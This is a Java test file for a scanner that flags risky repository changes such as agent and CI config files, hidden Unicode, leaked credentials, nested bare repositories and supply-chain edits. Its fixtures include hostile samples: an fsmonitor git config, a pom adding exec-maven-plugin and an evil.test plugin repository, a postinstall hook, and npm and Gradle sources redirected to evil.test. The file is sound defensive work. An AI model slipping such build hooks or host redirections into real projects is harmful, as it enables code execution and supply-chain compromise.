package dev.tars.runner.validation.checks;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tars.runner.model.Finding;
import dev.tars.runner.model.Severity;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class StaticChecksTest {
  private static final String CLEAN =
      """
      package org.acme;

      /** Sums μ and Δ; naïve, 日本語, 👩‍💻 and ❤️ are fine. */
      final class Clean {
        String password = System.getenv("DB_PASSWORD");
      }
      """;

  @Test
  void anOrdinaryChangeHasNoFinding() {
    ChangeFixture change =
        new ChangeFixture()
            .base("src/main/java/A.java", "class A {}\n")
            .set("src/main/java/A.java", "class A { int a; }\n")
            .set("src/main/java/Clean.java", CLEAN)
            .set("config/a.json", "{\"a\": [1, 2]}\n")
            .set("config/a.yaml", "a: [1, 2]\nb: &x {c: d}\ne: *x\n")
            .set("docs/a.md", "# Title\n")
            .delete("old.txt");
    ChangeFixture old = change.base("old.txt", "x\n");
    assertThat(old.findings()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        ".github/workflows/x.yml",
        ".claude/settings.json",
        ".CURSOR/mcp.json",
        ".cursor/mcp.json",
        ".gemini/settings.json",
        ".codex/config.toml",
        ".mvn/extensions.xml",
        ".mvn/jvm.config",
        "sub/.mvn/maven.config",
        "gradle/wrapper/gradle-wrapper.jar",
        "gradle/wrapper/gradle-wrapper.properties",
        "package.json",
        ".npmrc",
        "conftest.py",
        "tests/conftest.py",
        "sitecustomize.py",
        "a.pth",
        ".envrc",
        ".vscode/tasks.json",
        ".husky/pre-commit",
        "AGENTS.md",
        "Makefile",
        ".git\u200d/config",
        ".vscode./settings.json",
        "ｍｖｎｗ"
      })
  void aTrustHandoffFileIsShown(String path) {
    List<Finding> findings = new ChangeFixture().set(path, "a: 1\n").findings();
    assertThat(findings)
        .anySatisfy(f -> {
          assertThat(f.rule()).startsWith("handoff.");
          assertThat(f.severity()).isEqualTo(Severity.REVIEW);
          assertThat(f.message()).contains("will execute code outside the sandbox");
        });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "src/workspace/A.txt",
        "src/configure/A.txt",
        "docs/github/x.txt",
        "src/gradle/A.txt",
        "environment.txt",
        "mvnw.md"
      })
  void aNameThatOnlyResemblesOneIsNotShown(String path) {
    assertThat(new ChangeFixture().set(path, "a\n").findings()).isEmpty();
  }

  @Test
  void theRiskyFileComesFirstAmongThousands() {
    ChangeFixture change = new ChangeFixture();
    IntStream.range(0, 5000)
        .forEach(i -> change.set("a/noise" + i + ".bin", new byte[] {0, 1}, 0644));
    change.set(".github/workflows/x.yml", "on: push\n");
    List<Finding> findings = change.findings();
    assertThat(findings.getFirst().path()).isEqualTo(".github/workflows/x.yml");
    assertThat(findings).hasSizeLessThan(500);
    assertThat(findings)
        .anySatisfy(f -> assertThat(f.message()).contains("more findings of this rule"));
  }

  @Test
  void aLookAlikeNameIsShown() {
    assertThat(rules(new ChangeFixture().set("gradle/wrapper/gradl\u0435-wrapper.jar", "x")))
        .contains("unicode.mixed-script");
  }

  static Stream<String> unicode() {
    return Stream.of("\u202e", "\u2066", "\u202a");
  }

  @ParameterizedTest
  @MethodSource("unicode")
  void bidirectionalControlsReject(String control) {
    Finding finding = only(new ChangeFixture().set("a.txt", "ok\nif (x) { " + control + " }\n"));
    assertThat(finding.rule()).isEqualTo("unicode.bidi");
    assertThat(finding.severity()).isEqualTo(Severity.REJECT);
    assertThat(finding.line()).isEqualTo(2);
  }

  @ParameterizedTest
  @ValueSource(strings = {"a\u200bb", "\u2060", "\u3164", "a\udb40\udc41", "x\ufe0f", "\u00ad"})
  void invisibleCharactersAreShown(String text) {
    assertThat(only(new ChangeFixture().set("a.txt", text + "\n")).rule())
        .isEqualTo("unicode.invisible");
  }

  @Test
  void aWordOfTwoAlphabetsIsShown() {
    Finding finding = only(new ChangeFixture().set("a.py", "def check_аdmin(): pass\n"));
    assertThat(finding.rule()).isEqualTo("unicode.mixed-script");
    assertThat(finding.message()).contains("<U+0430>dmin");
  }

  @Test
  void linesThatWereThereBeforeAreNotBlamedOnTheChange() {
    ChangeFixture change =
        new ChangeFixture()
            .base("a.txt", "old \u202e line\n")
            .set("a.txt", "new line\nold \u202e line\n");
    assertThat(change.findings()).isEmpty();
  }

  static Stream<String> secrets() {
    // Put together here, so that no scanner of this repository takes them for real.
    String r = "Zq8Lw3Vt7Rk2Xn5Bp9Gd4Hs6Jf1Mc0Ya";
    return Stream.of(
        "AKIA" + "QX7ZJ4KLM2NPRS5T",
        "ghp_" + r + "abcd",
        "glpat-" + r.substring(0, 20),
        "sk_live_" + r,
        "-----BEGIN RSA " + "PRIVATE KEY-----",
        "postgres://admin:" + r + "@db.acme.org/x",
        "password = \"" + r + "\"",
        "eyJ" + "hbGciOiJIUzI1NiJ9abc.eyJ" + "zdWIiOiIxMjM0NTY3ODkwIn0abc." + r);
  }

  @ParameterizedTest
  @MethodSource("secrets")
  void aCredentialIsFoundAndNotPrinted(String secret) {
    Finding finding = only(new ChangeFixture().set("a.txt", "x\nkey " + secret + "\n"));
    assertThat(finding.rule()).isEqualTo("secret.found");
    assertThat(finding.line()).isEqualTo(2);
    assertThat(finding.message()).doesNotContain(secret.substring(secret.length() / 2));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "password = \"changeme-changeme\"",
        "token: \"${TOKEN_FROM_ENVIRONMENT}\"",
        "MVNW_PASSWORD=\"$MVNW_REPO_PASS_x9Z7\"",
        "api_key = \"your-key-goes-here-1\"",
        "secret = 'aaaaaaaaaaaaaaaaaaaa'",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
      })
  void placeholdersAndDigestsAreNoCredentials(String text) {
    assertThat(new ChangeFixture().set("a.txt", text + "\n").findings()).isEmpty();
  }

  @Test
  void aHostileLineIsScannedInLinearTime() {
    String hostile = "token=\"" + "a".repeat(2_000_000) + " eyJ" + "A".repeat(2_000_000);
    long start = System.nanoTime();
    new ChangeFixture().set("a.txt", hostile).findings();
    assertThat(System.nanoTime() - start).isLessThan(20_000_000_000L);
  }

  @Test
  void binaryIsFoundByContent() {
    byte[] elf = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0};
    assertThat(only(new ChangeFixture().set("logo.png", elf, 0644)))
        .returns("content.mismatch", Finding::rule)
        .returns(Severity.REJECT, Finding::severity);
    byte[] jar = {'P', 'K', 3, 4, 0, 0};
    assertThat(only(new ChangeFixture().set("a.txt", jar, 0644)).rule())
        .isEqualTo("content.mismatch");
    byte[] png = {(byte) 0x89, 'P', 'N', 'G', 0, 0};
    assertThat(only(new ChangeFixture().set("logo.png", png, 0644)).severity())
        .isEqualTo(Severity.INFO);
  }

  @Test
  void aNulFarBehindTheStartMakesItBinary() {
    byte[] polyglot = "line\n".repeat(2000).getBytes();
    polyglot[9500] = 0;
    assertThat(only(new ChangeFixture().set("notes.txt", polyglot, 0644)).rule())
        .isEqualTo("content.binary");
  }

  @Test
  void aFileTooLargeToLookIntoIsShown() {
    assertThat(rules(new ChangeFixture().set("blob.txt", new byte[9 << 20], 0644)))
        .containsExactly("content.unchecked");
  }

  @Test
  void aBareRepositoryIsRejected() {
    ChangeFixture attack =
        new ChangeFixture()
            .set("x/HEAD", "ref: refs/heads/main\n")
            .set("x/config", "[core]\nfsmonitor = /bin/true\n")
            .dir("x/objects")
            .dir("x/refs");
    Finding finding = only(attack);
    assertThat(finding.rule()).isEqualTo("path.nested-repository");
    assertThat(finding.severity()).isEqualTo(Severity.REJECT);
    assertThat(finding.path()).isEqualTo("x");
  }

  @Test
  void aBareRepositoryThatIsCompletedIsRejected() {
    ChangeFixture attack =
        new ChangeFixture().base("x/HEAD", "ref\n").baseDir("x/refs").dir("x/objects");
    assertThat(rules(attack)).contains("path.nested-repository");
    assertThat(new ChangeFixture().base("x/HEAD", "r\n").dir("x/objects").findings()).isEmpty();
  }

  @Test
  void deletedDisabledAndEmptiedTestsAreShown() {
    ChangeFixture change =
        new ChangeFixture()
            .base(
                "src/test/java/FooTest.java",
                "class FooTest { void a() { assertEquals(3, f()); } }\n")
            .base(
                "src/test/java/BarTest.java",
                "class BarTest {\n  void a() {\n  assertEquals(3, f());\n  assertEquals(4, f());\n  }\n}\n")
            .delete("src/test/java/FooTest.java")
            .set(
                "src/test/java/BarTest.java",
                "class BarTest {\n  @Disabled\n  void a() {\n  assertTrue(true);\n  }\n}\n");
    assertThat(rules(change))
        .containsExactlyInAnyOrder(
            "test.deleted", "test.skipped", "test.tautology", "test.assertions");
  }

  @Test
  void whatThePolicyForbidsInTestsRejects() {
    ChangeFixture change =
        new ChangeFixture().set("src/test/java/A.java", "class A {\n  @Ignore void a() {}\n}\n");
    CheckRules rules = CheckRules.standard(ChangeFixture.tests("src/test/", List.of("@Ignore")));
    assertThat(change.findings(rules))
        .anySatisfy(f -> {
          assertThat(f.rule()).isEqualTo("test.forbidden");
          assertThat(f.severity()).isEqualTo(Severity.REJECT);
          assertThat(f.line()).isEqualTo(2);
          assertThat(f.message()).contains("@Ignore");
          assertThat(f.brief()).contains("testIntegrity.forbidNew").doesNotContain("@Ignore");
        });
  }

  @Test
  void pluginsRepositoriesAndSwitchesOfAPomAreShown() {
    String before =
        """
        <project>
          <build><plugins><plugin><artifactId>maven-jar-plugin</artifactId></plugin></plugins></build>
        </project>
        """;
    String after =
        """
        <project>
          <properties><skipTests>true</skipTests><jar.version>9</jar.version></properties>
          <pluginRepositories><pluginRepository><url>https://evil.test/m2</url></pluginRepository></pluginRepositories>
          <build><plugins>
            <plugin><artifactId>maven-jar-plugin</artifactId></plugin>
            <plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId>
              <executions><execution><phase>validate</phase><goals><goal>exec</goal></goals></execution></executions>
            </plugin>
          </plugins></build>
        </project>
        """;
    assertThat(new ChangeFixture().base("pom.xml", before).set("pom.xml", after).findings())
        .filteredOn(f -> f.rule().equals("build.pom"))
        .extracting(Finding::message)
        .containsExactlyInAnyOrder(
            "the build sets skipTests to true",
            "the build sets the property jar.version to 9",
            "the build fetches from the pluginRepository https://evil.test/m2",
            "the build uses the plugin org.codehaus.mojo:exec-maven-plugin",
            "the build runs phase validate in org.codehaus.mojo:exec-maven-plugin",
            "the build runs goal exec in org.codehaus.mojo:exec-maven-plugin");
  }

  @Test
  void whatALockOfNpmSaysForPeopleIsNoSource() {
    ChangeFixture change =
        new ChangeFixture()
            .base("package-lock.json", "{}")
            .set(
                "package-lock.json",
                """
                {"packages": {"node_modules/a": {"resolved": "https://evil.test/a.tgz",
                "funding": [{"type": "patreon", "url": "https://people.test/a"}],
                "deprecated": "see https://talk.test", "url": "https://people.test"}}}
                """);
    assertThat(change.findings())
        .filteredOn(f -> f.rule().equals("supply.host"))
        .extracting(Finding::message)
        .containsExactly("names a new host: evil.test");
  }

  @Test
  void installScriptsAndNewHostsOfNodeFilesAreShown() {
    ChangeFixture change =
        new ChangeFixture()
            .base("package.json", "{\"scripts\": {\"test\": \"node --test\"}}\n")
            .set(
                "package.json",
                "{\"scripts\": {\"test\": \"node --test\",\n\"postinstall\": \"node x.js\"},\n\"dependencies\": {\"a\": \"git+https://evil.test/a\"}}\n")
            .base("package-lock.json", "{\"resolved\": \"https://good.test/a.tgz\"}\n")
            .set("package-lock.json", "{\"resolved\": \"https://evil.test/a.tgz\"}\n")
            .set(".npmrc", "registry=https://evil.test/\n");
    List<Finding> findings = change.findings();
    assertThat(findings)
        .filteredOn(f -> f.rule().equals("build.package-json"))
        .extracting(Finding::message)
        .containsExactlyInAnyOrder(
            "the script postinstall runs on every install: node x.js",
            "the dependency a comes from git+https://evil.test/a");
    assertThat(findings)
        .filteredOn(f -> f.rule().equals("supply.host"))
        .extracting(Finding::path)
        .containsExactlyInAnyOrder("package.json", "package-lock.json", ".npmrc");
  }

  @Test
  void aWrapperThatDownloadsFromAnotherHostIsShown() {
    ChangeFixture change =
        new ChangeFixture()
            .base(
                "gradle/wrapper/gradle-wrapper.properties",
                "distributionUrl=https\\://good.test/g.zip\n")
            .set(
                "gradle/wrapper/gradle-wrapper.properties",
                "distributionUrl=https\\://evil.test/g.zip\n");
    assertThat(rules(change)).contains("supply.host", "handoff.build");
  }

  private static List<String> rules(ChangeFixture change) {
    return change.findings().stream().map(Finding::rule).toList();
  }

  private static Finding only(ChangeFixture change) {
    List<Finding> findings = change.findings();
    assertThat(findings).hasSize(1);
    return findings.getFirst();
  }
}
